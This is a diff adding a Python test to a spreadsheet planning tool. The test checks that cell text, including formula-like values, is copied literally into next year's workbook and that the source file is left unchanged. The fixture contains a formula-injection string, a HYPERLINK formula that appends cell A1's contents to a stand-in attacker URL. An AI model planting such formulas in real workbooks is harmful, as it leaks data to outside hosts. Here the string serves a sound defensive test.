@@ -285,3 +285,25 @@ def test_the_plan_page_starts_next_years_plan(tmp_path: Path) -> None:
     assert load_workbook(target)["Plan"]["B4"].value == "Maple Grove Public Schools"
     issues = load(target, as_of=date(2024, 8, 28)).report.issues
     assert issues and {i.code for i in issues} == {"revise"}
+
+
+def test_text_is_carried_literally_and_the_source_is_untouched(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+    def typed_as_text(book) -> None:
+        cell = book["Supports"]["B4"]
+        cell.value, cell.data_type = formula, "s"  # typed with a leading ' in Excel
+        book["Goals"]["B4"] = "-2+3 students\nsecond line"
+
+    source = example_copy(tmp_path / "this.xlsx", edit=typed_as_text)
+    before = source.read_bytes()
+    target = tmp_path / "next.xlsx"
+    result = run("new", "system", target, "--from", source)
+    assert result.exit_code == 0, result.output
+    assert source.read_bytes() == before
+    book = load_workbook(target)
+    carried = book["Supports"]["B4"]
+    assert carried.value == formula and carried.data_type == "s"
+    assert book["Goals"]["B4"].value == f"{REVISE_MARK} -2+3 students\nsecond line"
+    issues = load(target, as_of=date(2023, 10, 31)).report.issues
+    assert ("Goals", "B4") in {(i.sheet, i.cell) for i in issues}
